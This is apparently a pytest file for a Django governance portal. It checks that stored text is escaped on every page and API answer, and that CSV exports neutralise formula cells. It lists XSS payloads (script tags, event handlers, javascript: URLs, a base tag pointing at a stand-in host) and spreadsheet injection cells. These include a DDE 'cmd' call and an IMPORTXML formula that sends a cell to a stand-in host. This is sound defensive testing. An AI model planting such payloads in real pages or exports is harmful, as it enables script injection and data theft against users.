"""What people and models write is shown as text: stored in every field, then looked for on every page and answer."""

from __future__ import annotations

import csv
import io
import re
from collections import Counter
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from django.conf import settings
from django.db import connection
from django.test import Client
from django.urls import reverse

from governance import context
from governance.models import ConstraintChange, User
from labeling.exports import ExportRow, write_csv
from tests.test_rights import WORD, admin_addresses, api_addresses, page_addresses
from tests.world import OUR_APPS, World, make_world
from workbench.models import Sheet

pytestmark = pytest.mark.one_database

PAYLOADS = (
    "<script>xss(0)</script>",
    '"><img src=xss onerror=xss(1)>',
    "'><svg onload=xss(2)>",
    "</textarea><script>xss(3)</script>",
    "</script><script>xss(4)</script>",
    '<a href="javascript:xss(5)">click</a>',
    '" autofocus onfocus="xss(6)" x="',
    "' onmouseover='xss(7)' x='",
    '<iframe srcdoc="<script>xss(8)</script>"></iframe>',
    '<math><mtext></mtext><style><img title="</style><img src=xss onerror=xss(9)>">',
    '<meta http-equiv="refresh" content="0;url=javascript:xss(10)">',
    "<base href=//xss.example><form action=//xss.example><input formaction=javascript:xss(11)>",
)
GROUPS = 3
HARMLESS = {"application/json", "application/problem+json", "text/csv", "text/plain", "text/x-python"}
NEVER_OURS = {"iframe", "object", "embed", "base", "math", "frame", "applet", "marquee"}
LEADS = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background"}
DANGEROUS = ("javascript:", "vbscript:", "data:text/html")
CELLS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1",
    "\u200b=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(A1)", "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x","y")', "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")", "@SUM(1+1)*cmd|' /C calc'!A0",
    '"=1+1', "'=1+1", "=1+1;=2+2", "a,=1+1", 'a","=1+1',
)  # fmt: skip
RISKY = set("=+-@\uff1d\uff0b\uff0d\uff20\t\r\n")


class Found(HTMLParser):
    """What of a page a browser would act on though a person or a model wrote it; and the text it shows."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.shown: list[str] = []
        self.inside = ""

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.inside = tag
        if tag in NEVER_OURS:
            self.faults.append(f"<{tag}>")
        for name, value in attributes:
            text = "".join((value or "").split()).lower()
            self.shown.append(value or "")
            if name.startswith("on") or name == "srcdoc":
                self.faults.append(f"<{tag} {name}>")
            elif name in LEADS and (text.startswith(DANGEROUS) or text in {"xss", "//xss.example"}):
                self.faults.append(f"<{tag} {name}={value}>")
            elif tag == "meta" and name == "http-equiv":
                self.faults.append(f"<meta http-equiv={value}>")

    def handle_data(self, data: str) -> None:
        if self.inside in {"script", "style"} and "xss" in data:
            self.faults.append(f"<{self.inside}>{data[:50]}")
        self.shown.append(data)

    def handle_endtag(self, tag: str) -> None:
        self.inside = ""


def looked_at(html: str) -> Found:
    found = Found()
    found.feed(html)
    found.close()
    return found


def written_by(number: int, payload: str, make_user: Any) -> World:
    """A row of every table, with the payload in every text and as the reason of every change."""
    owner = make_user(f"writer{number}")
    User.objects.filter(pk=owner.pk).update(first_name=payload[:150], last_name="", email="")
    owner.refresh_from_db()
    with context.because(payload, by=owner):
        return make_world(payload, owner)


@pytest.fixture
def reader(make_user, client) -> Client:
    """Someone who is shown everything."""
    user = make_user("reader", "compliance-officer")
    user.is_superuser = True
    user.save()
    client.force_login(user)
    return client


def every_address(world: World, payload: str) -> list[str]:
    found = [*admin_addresses(world), *page_addresses(world), *api_addresses(world)]
    lists = [f"{one}?q={quote(payload)}" for one in admin_addresses(world) if one.count("/") == 4]
    named = [one.replace(f"{WORD}.rows", quote(f"{payload}.rows", safe="")) for one in found]
    return [*named, *lists, f"{reverse('governance:search')}?q={quote(payload)}"]


def answers(reader: Client, addresses: list[str]) -> Iterator[tuple[str, Any, str]]:
    for address in addresses:
        answer = reader.get(address)
        content = b"".join(answer.streaming_content) if answer.streaming else answer.content
        yield address, answer, content.decode(errors="replace")


def kind_of(answer: Any) -> str:
    return str(answer.get("Content-Type", "")).partition(";")[0]


# -- the search itself ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_search_finds_each_payload_where_it_is_not_made_harmless(payload):
    raw = {
        f"<p>{payload}</p>", f'<input value="{payload}">', f"<input value='{payload}'>",
        f"<textarea>{payload}</textarea>", f"<script>var a = '{payload}'</script>",
    }  # fmt: skip

    assert any(looked_at(one).faults for one in raw)


def test_the_search_is_content_with_text_that_only_speaks_of_markup():
    escaped = "&lt;script&gt;xss(0)&lt;/script&gt; &quot; onerror=&quot;xss(1)"

    assert not looked_at(f'<p title="{escaped}">{escaped}</p><textarea>{escaped}</textarea>').faults


# -- every page and answer ------------------------------------------------------------------------------------


@pytest.mark.timeout(600)
@pytest.mark.parametrize(
    "groups", [pytest.param(1, id="a third of the payloads"), pytest.param(GROUPS, id="all", marks=pytest.mark.proof)]
)
@pytest.mark.skipif(connection.vendor != "sqlite", reason="several payloads are longer than a name may be elsewhere")
def test_no_page_or_answer_turns_what_was_stored_into_markup(groups, make_user, reader, capsys):
    """Four payloads at a time in each field: what a page makes of one, it makes of all."""
    faults, showing, counted, open_at = [], 0, Counter(), []
    for number in range(groups):
        group = PAYLOADS[number::GROUPS]
        payload = " ".join(group)
        world = written_by(number, payload, make_user)
        addresses = every_address(world, payload)
        # What does not exist for one group of payloads does not for the others: the rows are of the same kinds.
        wanted = addresses if not number else [addresses[place] for place in open_at]
        for place, (address, answer, text) in enumerate(answers(reader, wanted)):
            assert answer.status_code < 500, f"{address} answered {answer.status_code}"
            if answer.status_code != 200:
                continue
            assert answer["X-Content-Type-Options"] == "nosniff", address
            if not number:
                open_at.append(place)
            counted[kind_of(answer)] += 1
            if kind_of(answer) == "text/html":
                found = looked_at(text)
                faults += [f"{address}: {fault}" for fault in found.faults]
                showing += any(group[0] in one for one in found.shown)

    assert not faults, "\n".join(sorted(set(faults))[:40])
    assert set(counted) <= {"text/html", *HARMLESS}
    assert showing > 100 * groups, "too few pages show what was stored; the crawl proves nothing"
    with capsys.disabled():
        tried = len(PAYLOADS) * groups // GROUPS
        print(f"\n{tried} payloads, {showing} pages that show them, answers: {dict(counted)}", end=" ")  # noqa: T201


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_refusal_that_repeats_what_was_sent_repeats_it_as_text(payload, reader):
    """Messages of the portal name the value at fault."""
    pages = [
        reader.post(reverse("admin:governance_allowedaddress_add"), {"address": payload, "reason": payload}),
        reader.get(f"{reverse('admin:governance_constraintchange_changelist')}?since={quote(payload)}", follow=True),
        reader.get(f"/admin/{quote(payload, safe='')}/"),
        Client().post("/account/login/", {"login": payload, "password": payload, "next": payload}),
    ]

    assert not [fault for page in pages for fault in looked_at(page.content.decode()).faults]


# -- spreadsheets ---------------------------------------------------------------------------------------------


def cells_in(content: bytes) -> list[str]:
    return [cell for line in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in line]


def is_run(cell: str) -> bool:
    """Whether a spreadsheet takes the cell for a formula, blanks that cannot be seen left out."""
    start = cell.lstrip(" \u00a0\ufeff\u200b\u200c\u200d\u2060\u00ad")[:1]
    is_number = cell.lstrip("-").replace(".", "", 1).isdigit()
    return start in RISKY and not is_number


def test_no_export_as_csv_holds_a_cell_that_a_spreadsheet_runs(make_user, reader, capsys):
    owner = make_user("writer")
    sheets = []
    for number, cell in enumerate(CELLS):
        world = make_world(f"{number}", owner)
        world[Sheet].name = cell[:100]
        world[Sheet].save()
        ConstraintChange.objects.create(
            kind="workbench.sheet", object_id=world[Sheet].pk, subject_label=cell, old_allowed=1, new_allowed=1,
            old_prohibited=0, new_prohibited=1, old_classification=1, new_classification=1, direction="tightened",
            reason=cell, actor_name=cell[:100],
        )  # fmt: skip
        sheets.append(world[Sheet])
    files = [
        reader.get(reverse("admin:governance_constraintchange_csv")),
        reader.get("/api/v1/constraint-changes/csv/"),
        *(reader.get(recall_of(one)) for one in sheets),
    ]
    contents = [b"".join(file.streaming_content) if file.streaming else file.content for file in files]
    contents.append(_dataset_as_csv())

    assert all(file.status_code == 200 for file in files)
    assert not [cell for content in contents for cell in cells_in(content) if is_run(cell)]
    quoted = sum(cell.startswith("'") for content in contents for cell in cells_in(content))
    assert quoted > 2 * len(CELLS)
    with capsys.disabled():
        print(f"\n{len(CELLS)} cells through {len(contents)} files, {quoted} made safe", end=" ")  # noqa: T201


def recall_of(sheet: Sheet) -> str:
    return f"{reverse('training:recall', args=['workbench.sheet', sheet.pk])}?format=csv"


def _dataset_as_csv() -> bytes:
    out = io.BytesIO()
    rows = [
        ExportRow(
            pair_id="1", item_ref=cell, split="train", label_type=cell, answer=cell,
            messages=[{"role": "user", "content": cell}], metadata={"reviewed_by": cell},
        )
        for cell in CELLS
    ]
    write_csv(rows, out)
    return out.getvalue()


def test_no_other_module_writes_csv():
    writers = {
        path.relative_to(settings.BASE_DIR).as_posix()
        for app in OUR_APPS
        for path in (Path(settings.BASE_DIR) / app).rglob("*.py")
        if re.search(r"\bcsv\.(writer|DictWriter)\b|^from csv import", path.read_text("utf-8"), re.MULTILINE)
    }

    # The demonstration's tables are data to read, made of its own words.
    assert writers == {"governance/spreadsheets.py", "workbench/demo/folder.py"}
